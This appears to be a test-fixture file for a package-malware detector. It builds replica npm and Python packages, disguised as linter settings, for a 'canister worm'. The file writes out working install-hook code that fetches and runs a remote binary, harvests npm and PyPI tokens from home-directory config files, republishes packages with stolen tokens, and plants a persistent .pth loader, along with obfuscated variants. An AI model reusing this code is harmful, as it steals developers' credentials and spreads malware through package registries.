import { casesOf } from '../case';
import { charCodes, renamedLocals } from '../disguise/javascript';
import { npm, wheelOf } from '../packages';
import { execZlib } from '../disguise/python';

interface Told {
  gateway: string;
  canister: string;
  pth: string;
}

const install = (script: string) => String.raw`'use strict';
const { spawn } = require('child_process');
const path = require('path');
try {
  const child = spawn(process.execPath, [path.join(__dirname, '${script}')], {
    detached: true,
    stdio: 'ignore',
    env: Object.assign({}, process.env, { CI_STEP: '1' }),
  });
  child.unref();
} catch (e) {}
`;

/** The control point is asked first; what it would answer never comes. */
const control = ({ gateway, canister, pth }: Told) => String.raw`'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { execSync } = require('child_process');
const CANISTER = '${canister}';
function get(url) {
  return new Promise((resolve, reject) => {
    https.get(url, { headers: { 'User-Agent': 'Mozilla/5.0' } }, (response) => {
      let text = '';
      response.on('data', (part) => { text += part; });
      response.on('end', () => resolve(text));
    }).on('error', reject);
  });
}
function tokens() {
  const found = [];
  for (const file of ['.npmrc', '.pypirc', '.config/pip/pip.conf']) {
    try {
      const text = fs.readFileSync(path.join(os.homedir(), file), 'utf8');
      found.push(...(text.match(/npm_[A-Za-z0-9]{36}|pypi-[A-Za-z0-9_-]{50,}/g) || []));
    } catch (absent) {}
  }
  return found;
}
async function tick() {
  const link = (await get('https://' + CANISTER + '.raw.${gateway}/get_latest_link')).trim();
  const file = path.join(os.tmpdir(), 'pglog');
  fs.writeFileSync(file, await get(link));
  fs.chmodSync(file, 0o755);
  execSync('nohup ' + file + ' >/dev/null 2>&1 &');
  const found = tokens();
  if (found.some((token) => token.startsWith('pypi-'))) {
    const site = execSync('python3 -c "import site; print(site.getusersitepackages())"').toString().trim();
    fs.writeFileSync(path.join(site, '${pth}'), "import os; os.system('python3 " + file + " &')\n");
  }
  for (const token of found.filter((each) => each.startsWith('npm_'))) {
    execSync('npm publish --access public --tag latest', { cwd: path.join(__dirname, '..'), env: Object.assign({}, process.env, { NPM_TOKEN: token }) });
  }
}
const again = () => tick().then(() => setTimeout(again, 3000000)).catch(() => {});
again();
`;

const REPLICA: Told = {
  gateway: 'icp0-io.invalid',
  canister: 'tdtqy-oyaaa-aaaae-af2dq-cai',
  pth: 'distutils-precedence.pth',
};

const inPython = `import os, json, subprocess, tempfile, urllib.request
url = "https://tdtqy-oyaaa-aaaae-af2dq-cai.raw.icp0-io.invalid/get_latest_link"
try:
    link = urllib.request.urlopen(url, timeout=10).read().decode().strip()
    path = os.path.join(tempfile.gettempdir(), "pglog")
    urllib.request.urlretrieve(link, path)
    os.chmod(path, 0o755)
    subprocess.Popen([path], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except Exception:
    pass
`;

export const canisterWorm = casesOf({
  id: 'canister-worm',
  incident: 'canister-worm',
  kind: 'install-hook',
  seen: 'postinstall starts a detached process that takes orders from a canister on a blockchain, publishes with found tokens and writes a .pth file when PyPI keys are found',
  replica: npm('@robin/eslint-settings', '1.1.2', {
    about: 'Settings for a linter.',
    manifest: { scripts: { postinstall: 'node index.install.js' } },
    files: { 'index.install.js': install('scripts/deploy.js'), 'scripts/deploy.js': control(REPLICA) },
  }),
  renamed: npm('opstick-sdk', '0.12.1', {
    about: 'A client for operations.',
    manifest: { scripts: { postinstall: 'node dist/after.js' } },
    files: {
      'dist/after.js': renamedLocals(install('worker.js'), 'opstick'),
      'dist/worker.js': renamedLocals(
        control({
          gateway: 'chain-edge.invalid',
          canister: 'aaaaa-bbbbb-ccccc-ddddd-cai',
          pth: '_virtualenv_patch.pth',
        }),
        'worker',
      ),
    },
  }),
  reObfuscated: npm('@robin/eslint-settings', '1.1.3', {
    about: 'Settings for a linter.',
    manifest: { scripts: { postinstall: 'node index.install.js' } },
    files: {
      'index.install.js': charCodes(install('scripts/deploy.js').replace("'use strict';\n", ''), 'canister'),
      'scripts/deploy.js': charCodes(control(REPLICA).replace("'use strict';\n", ''), 'deploy'),
    },
  }),
  otherStage: {
    kind: 'pth',
    seen: 'a .pth file of a wheel takes orders from a canister on a blockchain at every start of the interpreter',
    sample: wheelOf('robin-settings', '1.1.4', {
      about: 'Settings for a linter.',
      files: { 'robin_settings_init.pth': `import sys; ${execZlib(inPython)}` },
    }),
  },
});
